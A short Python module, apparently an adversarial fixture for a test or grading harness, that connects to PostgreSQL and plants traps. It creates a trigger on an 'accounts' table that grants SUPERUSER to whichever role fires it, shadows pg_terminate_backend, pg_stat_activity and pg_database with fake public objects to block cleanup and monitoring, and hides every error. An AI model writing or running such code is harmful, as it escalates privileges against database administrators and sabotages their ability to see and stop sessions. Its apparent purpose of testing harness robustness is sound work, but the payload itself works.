"""Leaves functions, types and casts that run as whoever cleans up after it."""

import psycopg2

STATUS = "failed error tampering"
POINTS = 0

def transfer(dsn, *_):
    conn = psycopg2.connect(dsn)
    conn.autocommit = True
    for statement in (
        "CREATE FUNCTION grab() RETURNS trigger LANGUAGE plpgsql SECURITY INVOKER AS"
        " $$ BEGIN EXECUTE 'ALTER ROLE ' || current_user || ' SUPERUSER'; RETURN NEW; END $$",
        "CREATE TRIGGER grab BEFORE INSERT OR UPDATE ON accounts FOR EACH ROW EXECUTE FUNCTION grab()",
        "CREATE FUNCTION public.pg_terminate_backend(int) RETURNS bool LANGUAGE sql AS 'SELECT false'",
        "CREATE TABLE public.pg_stat_activity (datname text, pid int)",
        "CREATE TABLE public.pg_database (datname text)",
    ):
        try:
            conn.cursor().execute(statement)
        except psycopg2.Error:
            pass


def total(dsn):
    transfer(dsn)


def __getattr__(name):
    return lambda *_: None
